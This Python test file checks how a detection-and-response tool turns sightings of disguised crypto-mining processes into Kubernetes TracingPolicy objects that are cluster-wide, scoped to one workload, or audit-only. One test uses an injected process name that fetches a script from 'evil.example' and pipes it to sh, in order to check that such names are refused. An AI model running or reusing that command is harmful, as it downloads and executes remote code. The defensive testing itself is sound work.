"""Where evidence is enforced: cluster-wide only when corroborated and not a common program; in the
workloads where it was seen; or audited (``policy.scoping``), as compiled into objects."""

from __future__ import annotations

import json
from collections.abc import Sequence
from typing import Any

import pytest

from cdr_policy.models import Sighting
from cdr_policy.policy.binaries import COMMON_PROGRAM, refuse_cluster_wide
from cdr_policy.policy.channel import Action, ChannelSettings
from cdr_policy.policy.checker import SchemaSet, check_object, errors_of
from cdr_policy.policy.naming import is_system_namespace
from cdr_policy.policy.render import RenderResult
from cdr_policy.policy.scoping import MAX_WORKLOAD_POLICIES, MAX_WORKLOAD_SCOPES
from cdr_policy.report import bundle_report

from .factories import NOW, behaviour, cdr_set, exec_targets, render, sighting

PROD = ChannelSettings(name="prod", action="Sigkill")
MINERS = ("envoy", "nginx", "postgres")


def _render(
    sightings: Sequence[Sighting],
    channel: ChannelSettings = PROD,
    rule: str = "crypto_mining",
    processes: Sequence[str] = (),
    schemas: SchemaSet | None = None,
) -> RenderResult:
    return render([cdr_set(behaviours=[behaviour(rule, processes, sightings=sightings)])], channel, schemas)


def _actions(obj: dict[str, Any]) -> set[str]:
    return {a["action"] for hook in obj["spec"]["kprobes"] for s in hook["selectors"] for a in s["matchActions"]}


def _rows(result: RenderResult) -> dict[str, dict[str, Any]]:
    [entry] = result.report["behaviours"]
    return {row["process"]: row for row in entry["evidence"]}


def _scope(obj: dict[str, Any]) -> str | None:
    scope: str | None = obj["metadata"]["labels"].get("cdr-policy.io/scope")
    return scope


def _workloads(result: RenderResult) -> list[dict[str, Any]]:
    """The objects that enforce evidence in one workload each."""
    return [f.obj for f in result.files if _scope(f.obj) == "workload"]


def _namespace(obj: dict[str, Any]) -> str:
    """The namespace a workload policy's selector names (``k8s:io.kubernetes.pod.namespace In``)."""
    [expression] = obj["spec"]["podSelector"]["matchExpressions"]
    assert (expression["key"], expression["operator"]) == ("k8s:io.kubernetes.pod.namespace", "In")
    [namespace] = expression["values"]
    return str(namespace)


def _main(result: RenderResult) -> dict[str, Any]:
    [obj] = [f.obj for f in result.files if _scope(f.obj) is None]
    return obj


def _cluster_wide_kills(result: RenderResult) -> set[str]:
    """Every name an object that is not scoped to a workload kills (an enforcing action)."""
    return {
        name
        for f in result.files
        if _scope(f.obj) != "workload" and _actions(f.obj) & {"Sigkill", "Override"}
        for name in exec_targets(f.obj)
    }


@pytest.mark.parametrize("action", ["Post", "Sigkill", "Override"])
def test_masquerading_miners_are_killed_only_in_the_workload_where_they_ran(schemas: SchemaSet, action: Action) -> None:
    channel = ChannelSettings(name="prod", action=action)
    result = _render(
        [sighting(name, "shop", {"app": "web", "tier": "front"}) for name in MINERS], channel, schemas=schemas
    )
    [scoped] = [f for f in result.files if _scope(f.obj) == "workload"]
    assert scoped.filename.startswith("cdr-block-crypto-mining-20260109-shop-")
    obj = scoped.obj
    assert obj["kind"] == "TracingPolicy" and "namespace" not in obj["metadata"]
    assert obj["spec"]["podSelector"] == {
        "matchLabels": {"app": "web", "tier": "front"},
        "matchExpressions": [{"key": "k8s:io.kubernetes.pod.namespace", "operator": "In", "values": ["shop"]}],
    }
    assert exec_targets(obj) == {"/envoy", "/nginx", "/postgres"}
    assert obj["metadata"]["labels"]["cdr-policy.io/scope"] == "workload"
    assert obj["metadata"]["labels"]["cdr-policy.io/rule"] == "crypto_mining"
    assert obj["metadata"]["annotations"]["cdr-policy.io/evidence"] == "envoy,nginx,postgres"
    assert len(obj["metadata"]["annotations"]["cdr-policy.io/workload"]) == 16
    assert _actions(obj) == ({"Post"} if action == "Post" else {"Sigkill"} if action == "Sigkill" else {"Override"})
    main = _main(result)
    assert not {"/envoy", "/nginx", "/postgres"} & exec_targets(main)
    assert "/xmrig" in exec_targets(main)  # the rule's own names stay cluster-wide
    for f in result.files:
        assert errors_of(check_object(f.obj, schemas)) == [], f.filename
    rows = _rows(result)
    for name in MINERS:
        assert rows[name]["placement"] == "workloads"
        assert rows[name]["reason"] == COMMON_PROGRAM
        assert rows[name]["scopes"] == [
            {"namespace": "shop", "workload": obj["metadata"]["annotations"]["cdr-policy.io/workload"]}
        ]


def test_without_a_workload_the_names_stay_in_audit() -> None:
    result = _render([sighting(name, namespace=None) for name in MINERS])
    audit = [f for f in result.files if f.filename.startswith("cdr-audit-crypto-mining-")]
    [obj] = [f.obj for f in audit]
    assert obj["kind"] == "TracingPolicy" and obj["spec"]["podSelector"] == {}
    assert exec_targets(obj) == {"/envoy", "/nginx", "/postgres"}
    assert _actions(obj) == {"Post"}
    assert {"name": "policy-mode", "value": "monitor"} in obj["spec"]["options"]
    assert obj["metadata"]["labels"]["cdr-policy.io/scope"] == "audit"
    assert _cluster_wide_kills(result) & {"/envoy", "/nginx", "/postgres"} == set()
    for row in (rows := _rows(result)).values():
        assert row["placement"] == "audit"
        assert row["audited"] == "a finding names no namespace with valid pod labels (podLabels)"
    assert rows["nginx"]["findings"] == 1 and rows["nginx"]["workloads"] == 0


def test_a_set_written_before_sightings_were_kept_audits_its_names() -> None:
    result = _render([], processes=["nginx", "kdevtmpfs2"])
    rows = _rows(result)
    assert {r["placement"] for r in rows.values()} == {"audit"}
    assert rows["kdevtmpfs2"]["audited"] == "no finding names its workload"
    assert _cluster_wide_kills(result) & {"/nginx", "/kdevtmpfs2"} == set()


def test_system_namespaces_are_only_audited() -> None:
    result = _render([sighting("nginx", "kube-system", {"k8s-app": "x"}), sighting("nginx", "openshift-dns")])
    assert [_scope(f.obj) for f in result.files] == ["audit", None]
    assert _rows(result)["nginx"]["audited"] == "seen in a system namespace, where evidence is only audited"
    assert is_system_namespace("kube-system") and is_system_namespace("cdr-policy-system")
    assert not is_system_namespace("shop") and not is_system_namespace("default")


def test_a_corroborated_name_joins_the_rule_unless_it_is_a_common_program() -> None:
    spread = [sighting(name, f"team-{i}", {"app": f"a{i}"}) for i in range(3) for name in ("kxmr", "nginx")]
    result = _render(spread)
    main = _main(result)
    assert "/kxmr" in exec_targets(main) and "/nginx" not in exec_targets(main)
    assert main["metadata"]["annotations"]["cdr-policy.io/evidence"] == "kxmr"
    assert len(_workloads(result)) == 3  # nginx, per workload
    bundle_report(result.report, [], None, now=NOW)  # checked against report.schema.json
    rows = _rows(result)
    corroborating = rows["kxmr"].pop("corroborated_by")
    assert sorted(c["namespace"] for c in corroborating) == ["team-0", "team-1", "team-2"]
    assert all(len(c["workload"]) == 16 for c in corroborating)
    assert rows["kxmr"] | {"scopes": None} == {
        "process": "kxmr",
        "placement": "cluster-wide",
        "reason": "corroborated: seen in 3 workloads",
        "findings": 3,
        "workloads": 3,
        "scopes": None,
    }
    assert rows["nginx"]["placement"] == "workloads" and rows["nginx"]["workloads"] == 3
    assert result.report["behaviours"][0]["evidence_added"] == ["kxmr"]


def test_corroboration_counts_workloads_not_findings_and_the_threshold_is_a_channel_setting() -> None:
    same_workload = [sighting("kxmr", "shop", findings=40), sighting("kxmr", "shop", deployment="web", findings=2)]
    rows = _rows(_render(same_workload))
    assert rows["kxmr"]["workloads"] == 2 and rows["kxmr"]["findings"] == 42
    assert rows["kxmr"]["reason"] == (
        "not corroborated: seen in 2 workload(s), the channel asks for 3 (evidence_min_workloads)"
    )
    assert rows["kxmr"]["placement"] == "workloads"
    two = ChannelSettings(name="prod", action="Sigkill", evidence_min_workloads=2)
    assert _rows(_render(same_workload, two))["kxmr"]["placement"] == "cluster-wide"
    # one Deployment seen in two namespaces is two workloads; the same one twice is one
    deployments = [sighting("kxmr", None, deployment="web"), sighting("kxmr", None, deployment="web", findings=3)]
    assert _rows(_render(deployments))["kxmr"]["workloads"] == 1


def test_channel_namespaces_and_pod_labels_bound_the_scopes() -> None:
    channel = ChannelSettings(name="prod", action="Sigkill", namespaces=("shop",), pod_labels={"tier": "front"})
    result = _render(
        [
            sighting("nginx", "shop", {"app": "web"}),
            sighting("nginx", "billing", {"app": "api"}),
            sighting("envoy", "shop", {"app": "edge", "tier": "back"}),
        ],
        channel,
    )
    [scoped] = _workloads(result)
    assert scoped["spec"]["podSelector"]["matchLabels"] == {"app": "web", "tier": "front"}
    assert _namespace(scoped) == "shop"
    assert exec_targets(scoped) == {"/nginx"}
    rows = _rows(result)
    assert rows["nginx"]["audited"] == "seen outside the channel's namespaces"
    assert rows["envoy"]["audited"] == "the workload's pod labels contradict the channel's pod_labels"
    audit = [f for f in result.files if f.filename.startswith("cdr-audit-")]
    assert [f.obj["metadata"]["namespace"] for f in audit] == ["shop"]  # audit, like the rule, per channel namespace


def test_scopes_are_bounded_and_what_is_over_is_audited() -> None:
    many = [
        sighting("nginx", f"team-{i:02d}", {"app": "web"}, findings=100 - i) for i in range(MAX_WORKLOAD_SCOPES + 4)
    ]
    result = _render(many)
    scoped = _workloads(result)
    assert len(scoped) == MAX_WORKLOAD_SCOPES
    assert {_namespace(o) for o in scoped} == {f"team-{i:02d}" for i in range(MAX_WORKLOAD_SCOPES)}
    assert "over the workload policies a rule (16) or channel (32) may have" in _rows(result)["nginx"]["audited"]
    # and a channel has room for 32 workload policies, whatever its rules
    rules = ("crypto_mining", "network_scanning", "reverse_shell")
    result = render([cdr_set(behaviours=[behaviour(rule, sightings=many) for rule in rules])], PROD)
    scoped = _workloads(result)
    assert len(scoped) == MAX_WORKLOAD_POLICIES
    assert [len([o for o in scoped if o["metadata"]["labels"]["cdr-policy.io/rule"] == r]) for r in rules] == [
        16,
        16,
        0,
    ]


def test_refused_names_are_reported_by_fingerprint_never_copied() -> None:
    hostile = "nginx -c /tmp/x; curl evil.example | sh"
    result = _render([], processes=[hostile, "bash"])
    rows = result.report["behaviours"][0]["evidence"]
    assert hostile not in json.dumps(result.report)
    [fingerprinted] = [r for r in rows if r["process"] is None]
    assert fingerprinted["placement"] == "refused" and len(fingerprinted["fingerprint"]) == 16
    assert fingerprinted["reason"] == "not a bare executable name"
    assert {r["process"] for r in rows} == {None, "bash"}


def test_no_cluster_wide_object_ever_kills_a_refused_name() -> None:
    """Whatever the evidence, on an enforcing channel: what a cluster-wide object kills passes the list."""
    names = ["nginx", "envoy", "sshd", "redis-server", "pilot-agent", "kworker", "postgres15", "kxmr"]
    seen = [sighting(n, f"ns-{i}", {"app": n}) for i in range(4) for n in names]
    for rule in ("crypto_mining", "network_scanning", "reverse_shell", "ingress_tool_transfer"):
        result = _render(seen, rule=rule)
        killed = _cluster_wide_kills(result)
        assert "/kxmr" in killed
        assert {v for v in killed if refuse_cluster_wide(v)} == set(), rule


def test_metadata_service_callers_are_scoped_the_same_way(schemas: SchemaSet) -> None:
    result = _render([sighting("envoy", "shop")], rule="cloud_credentials", schemas=schemas)
    [scoped] = _workloads(result)
    [hook] = scoped["spec"]["kprobes"]
    assert hook["call"] == "tcp_connect"
    [sel] = hook["selectors"]
    assert sel["matchBinaries"] == [{"operator": "Postfix", "values": ["/envoy"]}]
    assert sel["matchArgs"][0]["operator"] == "DAddr"
    assert "/envoy" not in json.dumps(_main(result))


def test_every_placement_of_evidence_is_admitted_on_every_kind_of_channel() -> None:
    """The workload and audit policies (and corroborated names in the rule's own) pass the
    admission of what reaches a cluster, in Publish and the agent alike."""
    from cdr_policy.admission import Admission, protection
    from cdr_policy.bundle.assemble import assemble
    from cdr_policy.policy.behaviours import CATALOGUE
    from tests.unit.admission.test_shapes import variants

    seen = [
        *(sighting("kxmr", f"team-{i}", {"tier": f"t{i}"}) for i in range(3)),  # corroborated
        sighting("nginx", "web", {"tier": "front"}),  # a workload of every variant's namespaces
        sighting("envoy", None),  # no workload: audited
        sighting("sshd", "kube-system", {"k8s-app": "x"}),  # a system namespace: audited
    ]
    sets = [cdr_set(behaviours=[behaviour(rule, sightings=seen) for rule in CATALOGUE])]
    admission = Admission(protection(where="the test"))
    scopes = set()
    for channel in variants():
        result = render(sets, channel)
        scopes |= {_scope(f.obj) for f in result.files}
        verdict = admission.judge(assemble(result.files, channel, now=NOW, index=result.provenance))
        assert verdict.admitted, (channel, verdict.lines())
    assert scopes == {None, "workload", "audit"}
